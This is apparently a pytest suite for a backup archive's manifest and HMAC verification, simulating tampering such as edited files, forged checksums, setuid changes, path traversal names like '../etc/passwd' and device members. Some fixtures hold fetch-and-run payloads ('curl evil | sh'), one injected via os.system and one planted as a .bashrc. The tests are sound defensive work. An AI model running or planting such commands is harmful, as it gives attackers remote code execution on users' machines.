"""The backup archive: manifest building and verification (berth/deploy/archive.py).

Each attack edits a real archive file the way someone with write access to the backup disk
could, and the restore's verification must refuse it before anything would be changed.
"""

from __future__ import annotations

import gzip
import io
import json
import os
import stat
import tarfile
from pathlib import Path

import pytest

from berth.deploy import archive
from berth.deploy.archive import ArchiveProblem, Entry

SECRET = b"a" * 64
OTHER_SECRET = b"b" * 64
ME = archive.deployment_id(SECRET)
KEY = archive.mac_key(SECRET)


def info(name: str, kind: bytes = tarfile.REGTYPE, uid: int = 1000, mode: int = 0o644):
    made = tarfile.TarInfo(name)
    made.type, made.uid, made.gid, made.mode = kind, uid, 100, mode
    return made


def write_archive(path: Path, files: dict[str, bytes], secret: bytes = SECRET) -> dict:
    writer = archive.ArchiveWriter(path)
    writer.add("volumes/berth-user-alice", info("x", tarfile.DIRTYPE, mode=0o755))
    for name, data in files.items():
        member = info(name)
        member.size = len(data)
        writer.add(name, member, io.BytesIO(data))
    link = info("l", tarfile.SYMTYPE, mode=0o777)
    link.linkname = "notes.txt"
    writer.add("volumes/berth-user-alice/link", link)
    meta = {"deployment": {"id": archive.deployment_id(secret)}, "volumes": {}}
    return writer.finish(meta, archive.mac_key(secret))


FILES = {
    archive.HUB_DATABASE: b"SQLite format 3\0...",
    "volumes/berth-user-alice/notes.txt": b"hello\n",
    "volumes/berth-user-alice/analysis.ipynb": b'{"cells": []}',
}


@pytest.fixture
def good(tmp_path: Path) -> Path:
    path = tmp_path / archive.archive_name()
    write_archive(path, FILES)
    return path


def members(path: Path) -> list[tuple[tarfile.TarInfo, bytes | None]]:
    with tarfile.open(path, "r:gz") as tar:
        return [
            (m, tar.extractfile(m).read() if m.isfile() else None)  # type: ignore[union-attr]
            for m in tar.getmembers()
        ]


def rewrite(path: Path, edit) -> None:
    """Rebuild the archive, passing each (member, content) through `edit` (None drops it)."""
    kept = [edited for item in members(path) if (edited := edit(*item)) is not None]
    path.unlink()
    with tarfile.open(path, "w:gz", format=tarfile.PAX_FORMAT) as tar:
        for member, data in kept:
            member.size = len(data) if data is not None else 0
            tar.addfile(member, io.BytesIO(data) if data is not None else None)


def test_the_manifest_records_every_member_and_the_archive_is_private(good: Path):
    assert stat.S_IMODE(os.stat(good).st_mode) == 0o600
    verified = archive.verify(good, KEY, ME)
    assert verified.authenticated
    assert verified.entries == {
        "volumes/berth-user-alice": Entry("dir", 1000, 100, 0o755),
        "volumes/berth-user-alice/link": Entry("symlink", 1000, 100, 0o777, target="notes.txt"),
        archive.HUB_DATABASE: Entry(
            "file",
            1000,
            100,
            0o644,
            19,
            archive.hashlib.sha256(FILES[archive.HUB_DATABASE]).hexdigest(),
        ),
        "volumes/berth-user-alice/notes.txt": Entry(
            "file", 1000, 100, 0o644, 6, archive.hashlib.sha256(b"hello\n").hexdigest()
        ),
        "volumes/berth-user-alice/analysis.ipynb": Entry(
            "file", 1000, 100, 0o644, 13, archive.hashlib.sha256(b'{"cells": []}').hexdigest()
        ),
    }
    manifest = verified.manifest
    assert manifest["format"] == 1
    assert manifest["deployment"] == {"id": ME}
    assert members(good)[-1][0].name == "berth-backup.json"  # last: written when all is known


def test_a_tampered_byte_is_refused(good: Path):
    def flip(member, data):
        if member.name.endswith("notes.txt"):
            data = b"HELLO\n"
        return member, data

    rewrite(good, flip)
    with pytest.raises(
        ArchiveProblem, match=r"differs: volumes/berth-user-alice/notes.txt \(sha256\)"
    ):
        archive.verify(good, KEY, ME)


def test_a_tampered_file_with_a_matching_manifest_is_refused_by_the_signature(good: Path):
    """An attacker who edits a file and recomputes its sha256 in the manifest does not know
    this deployment's key: the HMAC no longer matches."""
    evil = b"import os; os.system('curl evil | sh')\n"

    def forge(member, data):
        if member.name.endswith("notes.txt"):
            return member, evil
        if member.name == archive.MANIFEST_NAME:
            document = json.loads(data)
            entry = document["manifest"]["entries"]["volumes/berth-user-alice/notes.txt"]
            entry["sha256"] = archive.hashlib.sha256(evil).hexdigest()
            entry["size"] = len(evil)
            return member, json.dumps(document).encode()
        return member, data

    rewrite(good, forge)
    with pytest.raises(ArchiveProblem, match="signature does not match"):
        archive.verify(good, KEY, ME)


def test_a_member_whose_owner_or_mode_was_changed_is_refused(good: Path):
    def setuid(member, data):
        if member.name.endswith("notes.txt"):
            member.mode = 0o4755
            member.uid = 0
        return member, data

    rewrite(good, setuid)
    with pytest.raises(ArchiveProblem, match=r"notes.txt \(uid, mode\)"):
        archive.verify(good, KEY, ME)


@pytest.mark.parametrize("keep", [0.3, 0.6, 0.95])
def test_a_truncated_archive_is_refused(good: Path, keep: float):
    data = good.read_bytes()
    good.write_bytes(data[: int(len(data) * keep)])
    with pytest.raises(ArchiveProblem, match=r"damaged or truncated|no berth-backup\.json"):
        archive.verify(good, KEY, ME)


def test_an_archive_cut_before_its_manifest_is_refused(good: Path):
    rewrite(good, lambda m, d: None if m.name == archive.MANIFEST_NAME else (m, d))
    with pytest.raises(ArchiveProblem, match="truncated, or not a Berth backup"):
        archive.verify(good, KEY, ME)


def test_a_flipped_byte_in_the_compressed_stream_is_refused(good: Path):
    data = bytearray(good.read_bytes())
    data[len(data) // 2] ^= 0x01
    good.write_bytes(bytes(data))
    with pytest.raises(ArchiveProblem):
        archive.verify(good, KEY, ME)


def test_a_missing_file_is_refused(good: Path):
    rewrite(good, lambda m, d: None if m.name.endswith("analysis.ipynb") else (m, d))
    with pytest.raises(ArchiveProblem, match=r"missing: volumes/berth-user-alice/analysis\.ipynb"):
        archive.verify(good, KEY, ME)


def test_an_extra_file_is_refused(good: Path):
    items = members(good)
    extra = info("volumes/berth-user-alice/.bashrc")
    items.insert(-1, (extra, b"curl evil | sh\n"))
    good.unlink()
    with tarfile.open(good, "w:gz") as tar:
        for member, data in items:
            member.size = len(data) if data is not None else 0
            tar.addfile(member, io.BytesIO(data) if data is not None else None)
    with pytest.raises(
        ArchiveProblem, match=r"not in the manifest: volumes/berth-user-alice/\.bashrc"
    ):
        archive.verify(good, KEY, ME)


@pytest.mark.parametrize(
    "name",
    ["../etc/passwd", "/etc/passwd", "volumes/x/../../etc", "secrets/key", "hub/other", "volumes"],
)
def test_a_member_outside_the_layout_is_refused(good: Path, name: str):
    items = members(good)
    items.insert(0, (info(name), b"x"))
    good.unlink()
    with tarfile.open(good, "w:gz") as tar:
        for member, data in items:
            member.size = len(data) if data is not None else 0
            tar.addfile(member, io.BytesIO(data) if data is not None else None)
    with pytest.raises(ArchiveProblem, match=r"not a plain relative path|not part of"):
        archive.verify(good, KEY, ME)


def test_a_hard_link_or_device_is_refused(good: Path):
    items = members(good)
    device = info("volumes/berth-user-alice/null", tarfile.CHRTYPE)
    items.insert(0, (device, None))
    good.unlink()
    with tarfile.open(good, "w:gz") as tar:
        for member, data in items:
            tar.addfile(member, io.BytesIO(data) if data is not None else None)
    with pytest.raises(ArchiveProblem, match="unsupported member type"):
        archive.verify(good, KEY, ME)


def test_a_foreign_archive_is_refused_unless_forced(tmp_path: Path):
    path = tmp_path / "foreign.tar.gz"
    write_archive(path, FILES, secret=OTHER_SECRET)
    with pytest.raises(ArchiveProblem, match=r"another deployment.*--force-foreign"):
        archive.verify(path, KEY, ME)
    with pytest.raises(ArchiveProblem, match="no deployment here yet"):
        archive.verify(path, None, None)
    forced = archive.verify(path, KEY, ME, force_foreign=True)
    assert not forced.authenticated and len(forced.entries) == 5


def test_a_forced_foreign_archive_still_needs_intact_checksums(tmp_path: Path):
    path = tmp_path / "foreign.tar.gz"
    write_archive(path, FILES, secret=OTHER_SECRET)
    rewrite(path, lambda m, d: (m, b"HELLO\n") if m.name.endswith("notes.txt") else (m, d))
    with pytest.raises(ArchiveProblem, match=r"notes\.txt"):
        archive.verify(path, KEY, ME, force_foreign=True)


def test_not_a_backup_at_all(tmp_path: Path):
    path = tmp_path / "random.tar.gz"
    path.write_bytes(gzip.compress(b"not a tar"))
    with pytest.raises(ArchiveProblem):
        archive.verify(path, KEY, ME)


def test_the_writer_refuses_a_short_read_and_unsafe_names(tmp_path: Path):
    writer = archive.ArchiveWriter(tmp_path / "x.tar.gz")
    member = info("volumes/v/f")
    member.size = 10
    with pytest.raises((ArchiveProblem, OSError)):
        writer.add("volumes/v/f", member, io.BytesIO(b"short"))
    with pytest.raises(ArchiveProblem):
        writer.add("../escape", info("x"), io.BytesIO(b""))


def test_compare_lists_every_difference():
    want = {"a": Entry("file", 1, 1, 0o644, 1, "aa"), "b": Entry("dir", 1, 1, 0o755)}
    got = {"a": Entry("file", 1, 2, 0o600, 1, "aa"), "c": Entry("dir", 1, 1, 0o755)}
    assert archive.compare(want, got) == [
        "missing: b",
        "not in the manifest: c",
        "differs: a (gid, mode)",
    ]


def test_member_names_and_retention():
    assert archive.member_name("volumes/v", ".") == "volumes/v"
    assert archive.member_name("volumes/v", "./a/b") == "volumes/v/a/b"
    assert archive.member_name("hub/data", "secrets") == "hub/data/secrets"
    paths = [Path(f"berth-backup-2026010{i}T000000Z.tar.gz") for i in range(1, 6)]
    assert archive.to_prune(reversed(paths), 2) == paths[:3]
    assert archive.to_prune(paths, 10) == []
